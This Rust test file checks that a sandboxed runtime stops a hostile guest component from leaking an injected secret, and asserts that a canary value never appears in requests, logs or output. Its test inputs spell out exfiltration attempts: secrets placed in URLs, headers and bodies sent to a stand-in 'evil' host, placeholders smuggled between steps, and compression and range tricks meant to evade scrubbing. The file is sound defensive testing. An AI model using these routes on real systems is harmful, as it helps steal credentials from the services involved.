//! Secrets from the guest side: every exfiltration route a hostile guest
//! can try, with a canary value checked absent from everything the guest
//! received and everything reported.

use serde_json::json;
use wrun_runtime::{AuditKind, Error, Grants};

use crate::common::*;

/// The `http` action with the secret's placeholder substituted for `{secret}`.
fn with_secret(url: String, headers: serde_json::Value, body: Option<&str>) -> serde_json::Value {
    let mut input = json!({ "url": url, "secret": "api", "headers": headers });
    if let Some(body) = body {
        input["method"] = json!("POST");
        input["body"] = json!(body);
    }
    input
}

#[tokio::test]
async fn the_secret_is_injected_where_the_connection_says() {
    let env = TestEnv::new().await;
    let input = with_secret(
        env.url(API, "/echo/ok"),
        json!([["authorization", "Bearer {secret}"]]),
        None,
    );
    let result = env.hostile(env.hostile_grants(), "http", input).await;
    env.assert_no_leak(&result);
    let out = success(result);
    assert_eq!(out.output["status"], 200);
    // The upstream got the value; the guest's copy of the reflection is masked.
    let got = env.server.requests();
    assert_eq!(
        got[0].header("authorization"),
        Some(format!("Bearer {}", env.canary).as_str())
    );
    let body = out.output["body"].as_str().unwrap();
    assert!(body.contains("Bearer ***"), "{body}");
    let injected = out.events.iter().any(|e| matches!(e, wrun_runtime::Event::Request { connections, .. } if connections == &["api-token"]));
    assert!(injected, "{:?}", out.events);
}

#[tokio::test]
async fn the_secret_never_goes_to_an_ungranted_host() {
    let env = TestEnv::new().await;
    let evil = |p: &str| env.url(EVIL, p);
    let attempts = [
        with_secret(evil("/echo?token={secret}"), json!([]), None),
        with_secret(evil("/echo/{secret}"), json!([]), None),
        with_secret(
            evil("/echo"),
            json!([["authorization", "Bearer {secret}"]]),
            None,
        ),
        with_secret(
            evil("/echo"),
            json!([["content-type", "application/json"]]),
            Some(r#"{"t": "{secret}"}"#),
        ),
    ];
    for input in attempts {
        let result = env
            .hostile(env.hostile_grants(), "http", input.clone())
            .await;
        env.assert_no_leak(&result);
        let (text, _) = failure(result);
        assert!(text.contains("not in the `net` grant"), "{input}: {text}");
    }
    assert!(!env.server.raw_bytes_contain(env.canary.as_bytes()));
    assert!(env.server.requests().is_empty());
}

#[tokio::test]
async fn the_secret_never_goes_to_a_granted_host_it_is_not_bound_to() {
    let env = TestEnv::new().await;
    let grants = env.hostile_grants().net(env.host(OTHER));
    let input = with_secret(
        env.url(OTHER, "/echo"),
        json!([["authorization", "Bearer {secret}"]]),
        None,
    );
    let result = env.hostile(grants, "http", input).await;
    env.assert_no_leak(&result);
    let (text, _) = failure(result);
    assert!(text.contains("may not be sent to other.test"), "{text}");
    assert!(env.server.requests().is_empty());
    let audits = env.observer.audits();
    assert_eq!(audits.len(), 1);
    assert_eq!(audits[0].kind, AuditKind::SecretMisuse);
    assert_eq!(audits[0].connection.as_deref(), Some("api-token"));
    assert_eq!(audits[0].step, "hostile");
}

#[tokio::test]
async fn the_secret_is_refused_anywhere_its_connection_does_not_name() {
    let env = TestEnv::new().await;
    let api = |p: &str| env.url(API, p);
    let attempts = [
        with_secret(api("/echo?token={secret}"), json!([]), None),
        with_secret(api("/echo/{secret}"), json!([]), None),
        with_secret(api("/echo"), json!([["x-api-key", "{secret}"]]), None),
        with_secret(
            api("/echo"),
            json!([["authorization", "token {secret}"]]),
            None,
        ),
        with_secret(
            api("/echo"),
            json!([["authorization", "Bearer {secret}{secret}"]]),
            None,
        ),
        with_secret(
            api("/echo"),
            json!([["content-type", "application/json"]]),
            Some(r#"{"token": "{secret}"}"#),
        ),
        with_secret(
            api("/echo"),
            json!([["content-type", "text/plain"]]),
            Some("{secret}"),
        ),
    ];
    for input in attempts {
        let result = env
            .hostile(env.hostile_grants(), "http", input.clone())
            .await;
        env.assert_no_leak(&result);
        let (text, _) = failure(result);
        assert!(text.contains("wrun egress refused"), "{input}: {text}");
    }
    assert!(!env.server.raw_bytes_contain(env.canary.as_bytes()));
    assert_eq!(
        env.observer
            .audits()
            .iter()
            .filter(|a| a.kind == AuditKind::SecretMisuse)
            .count(),
        7
    );
}

#[tokio::test]
async fn a_large_body_with_a_late_placeholder_fails_without_leaking() {
    let env = TestEnv::new().await;
    let body = format!("{}{{secret}}", "a".repeat(200_000));
    let input = with_secret(
        env.url(API, "/echo"),
        json!([["content-type", "text/plain"]]),
        Some(&body),
    );
    let result = env.hostile(env.hostile_grants(), "http", input).await;
    env.assert_no_leak(&result);
    failure(result);
    assert!(!env.server.raw_bytes_contain(env.canary.as_bytes()));
}

#[tokio::test]
async fn an_echoed_secret_is_scrubbed_from_what_the_guest_receives() {
    let env = TestEnv::new().await;
    for path in ["/echo/plain", "/echo-b64/encoded"] {
        let input = with_secret(
            env.url(API, path),
            json!([["authorization", "Bearer {secret}"]]),
            None,
        );
        let result = env.hostile(env.hostile_grants(), "http", input).await;
        env.assert_no_leak(&result);
        let out = success(result);
        assert_eq!(out.output["status"], 200, "{path}");
        // The header reflection is scrubbed too.
        let headers = out.output["headers"].to_string();
        assert!(headers.contains("x-echo-authorization"), "{headers}");
    }
    // The upstream did receive the value, in its named place.
    assert!(env.server.raw_bytes_contain(env.canary.as_bytes()));
}

#[tokio::test]
async fn leaking_through_logs_stdout_errors_and_panics_is_masked() {
    for how in ["log", "stdout", "stderr", "output", "error", "panic", "all"] {
        let env = TestEnv::new().await;
        let input = json!({ "url": env.url(API, "/echo/leak"), "secret": "api", "how": how });
        let result = env.hostile(env.hostile_grants(), "leak", input).await;
        env.assert_no_leak(&result);
        let events = match &result {
            Ok(o) => o.events.clone(),
            Err(f) => f.events.clone(),
        };
        if matches!(how, "log" | "stdout" | "stderr" | "all") {
            assert!(
                logs(&events).contains("Bearer ***"),
                "{how}: {}",
                logs(&events)
            );
        }
        if how == "panic" {
            let (text, f) = failure(result);
            assert!(matches!(f.error, Error::Trap { .. }), "{text}");
            assert!(text.contains("Bearer ***"), "{text}");
        }
    }
}

#[tokio::test]
async fn placeholders_are_masked_in_outputs() {
    let env = TestEnv::new().await;
    let out = success(
        env.hostile(
            env.hostile_grants(),
            "placeholder",
            json!({ "secret": "api" }),
        )
        .await,
    );
    assert_eq!(out.output["placeholder"], "***");
}

#[tokio::test]
async fn guessed_or_foreign_placeholders_are_only_text() {
    let env = TestEnv::new().await;
    // A placeholder smuggled out of one job (reversed, so the mask cannot
    // recognise it) is worthless in the next: placeholders are per job.
    let out = success(
        env.hostile(
            env.hostile_grants(),
            "placeholder",
            json!({ "secret": "api" }),
        )
        .await,
    );
    let stolen: String = out.output["reversed"]
        .as_str()
        .unwrap()
        .chars()
        .rev()
        .collect();
    assert!(stolen.starts_with("wrun_ph_"));
    for token in [stolen, format!("wrun_ph_{}", "0".repeat(32))] {
        // This route checks the bearer token against the real value.
        let url = env.url(API, "/repos/octo/hello/issues/1");
        let input =
            json!({ "url": url, "headers": [["authorization", format!("Bearer {token}")]] });
        let result = env.hostile(env.hostile_grants(), "http", input).await;
        env.assert_no_leak(&result);
        let out = success(result);
        assert_eq!(
            out.output["status"], 401,
            "the upstream must not have received the value"
        );
    }
    assert!(!env.server.raw_bytes_contain(env.canary.as_bytes()));
}

#[tokio::test]
async fn a_secret_alias_that_is_not_granted_gets_no_handle() {
    let env = TestEnv::new().await;
    let (text, _) = failure(
        env.hostile(
            env.hostile_grants(),
            "secret-get",
            json!({ "alias": "prod-db" }),
        )
        .await,
    );
    assert!(
        text.contains("no `secrets` grant for alias `prod-db`"),
        "{text}"
    );
}

#[tokio::test]
async fn marked_values_are_masked_for_the_rest_of_the_job() {
    let env = TestEnv::new().await;
    let value = wrun_tests::canary("marked");
    let result = env
        .hostile(env.hostile_grants(), "mark", json!({ "value": value }))
        .await;
    let out = success(result);
    assert_eq!(out.output["value"], "***");
    assert_eq!(out.output["echo"], "token=***");
    let text = format!("{:?}{:?}", out.events, out.output);
    wrun_tests::assert_absent(text.as_bytes(), &[&value], "output and logs");
}

#[tokio::test]
async fn mask_grant_fields_are_masked_in_what_is_stored() {
    let env = TestEnv::new().await;
    let grants = env.hostile_grants().mask("/status");
    let out = success(
        env.hostile(grants, "http", http(&env.url(API, "/echo")))
            .await,
    );
    assert_eq!(out.output["status"], 200);
    assert_eq!(out.stored["status"], "***");
}

#[tokio::test]
async fn basic_auth_and_query_placements_work_only_in_place() {
    let mut env = TestEnv::new().await;
    let hosts = [env.host(API)];
    env.connection("basic-conn", "user:basic-canary-value", &hosts, "basic");
    env.connection("query-conn", "query-canary-value", &hosts, "query:api_key");
    let grants = || {
        env.hostile_grants()
            .secret("b", "basic-conn")
            .secret("q", "query-conn")
    };

    let input = json!({ "url": env.url(API, "/echo/basic"), "secret": "b" });
    let out = success(env.hostile(grants(), "auth", input).await);
    assert_eq!(out.output["status"], 200);
    let input = json!({ "url": env.url(API, "/echo/query?x=1"), "secret": "q" });
    let out = success(env.hostile(grants(), "auth", input).await);
    assert_eq!(out.output["status"], 200);

    let got = env.server.requests();
    assert_eq!(
        got[0].header("authorization"),
        Some("Basic dXNlcjpiYXNpYy1jYW5hcnktdmFsdWU=")
    );
    assert!(
        got[1].path_and_query.contains("api_key=query-canary-value"),
        "{}",
        got[1].path_and_query
    );
    let seen = format!("{}{:?}", out.output, out.events);
    wrun_tests::assert_absent(
        seen.as_bytes(),
        &["query-canary-value", "basic-canary-value"],
        "guest output",
    );
}

#[tokio::test]
async fn a_step_cannot_use_a_placeholder_granted_to_another_step() {
    let mut env = TestEnv::new().await;
    env.connection(
        "second",
        "second-canary-value",
        &[env.host(API)],
        "header:X-Key={}",
    );
    let component = env.load("hostile");
    let job = env.job();
    let first = env
        .engine
        .step(
            "first",
            &component,
            env.hostile_grants().secret("s", "second").build().unwrap(),
        )
        .unwrap();
    let second = env
        .engine
        .step("second", &component, env.hostile_grants().build().unwrap())
        .unwrap();
    let out = success(
        job.run(&first, "placeholder", &json!({ "secret": "s" }))
            .await,
    );
    let ph: String = out.output["reversed"]
        .as_str()
        .unwrap()
        .chars()
        .rev()
        .collect();
    let input = json!({ "url": env.url(API, "/echo"), "headers": [["x-key", ph]] });
    let (text, _) = failure(job.run(&second, "http", &input).await);
    assert!(text.contains("not granted to this step"), "{text}");
    assert!(!env.server.raw_bytes_contain(b"second-canary-value"));
    let _ = Grants::none();
}

#[tokio::test]
async fn compression_and_byte_ranges_cannot_bypass_response_scrubbing() {
    let env = TestEnv::new().await;
    // The guest asks for a compressed, partial echo of its own credential.
    let headers = json!([
        ["authorization", "Bearer {secret}"],
        ["accept-encoding", "gzip, br"],
        ["range", "bytes=0-2"],
        ["expect", "100-continue"]
    ]);
    let input = with_secret(env.url(API, "/echo/ranged"), headers, None);
    let result = env.hostile(env.hostile_grants(), "http", input).await;
    env.assert_no_leak(&result);
    success(result);
    let got = &env.server.requests()[0];
    assert_eq!(got.header("accept-encoding"), Some("identity"));
    assert_eq!(got.header("range"), None);
    assert_eq!(got.header("expect"), None);

    // An upstream that compresses or answers partially anyway is refused.
    for path in ["/encoded", "/partial"] {
        let input = with_secret(
            env.url(API, path),
            json!([["authorization", "Bearer {secret}"]]),
            None,
        );
        let result = env.hostile(env.hostile_grants(), "http", input).await;
        env.assert_no_leak(&result);
        let (text, _) = failure(result);
        assert!(text.contains("cannot be scrubbed"), "{path}: {text}");
    }
}

#[tokio::test]
async fn trace_and_connect_are_never_sent() {
    let env = TestEnv::new().await;
    for method in ["TRACE", "CONNECT"] {
        let input = json!({ "url": env.url(API, "/echo"), "method": method });
        let (text, _) = failure(env.hostile(env.hostile_grants(), "http", input).await);
        assert!(
            text.contains("method is not allowed") || text.contains("Method"),
            "{method}: {text}"
        );
    }
    assert!(env.server.requests().is_empty());
}

#[tokio::test]
async fn marking_is_bounded() {
    let env = TestEnv::new().await;
    let huge = "x".repeat(5000);
    let out = success(
        env.hostile(env.hostile_grants(), "mark", json!({ "value": huge }))
            .await,
    );
    assert!(
        logs(&out.events).contains("mask.mark ignored: values longer than 4 KiB"),
        "{}",
        logs(&out.events)
    );
}
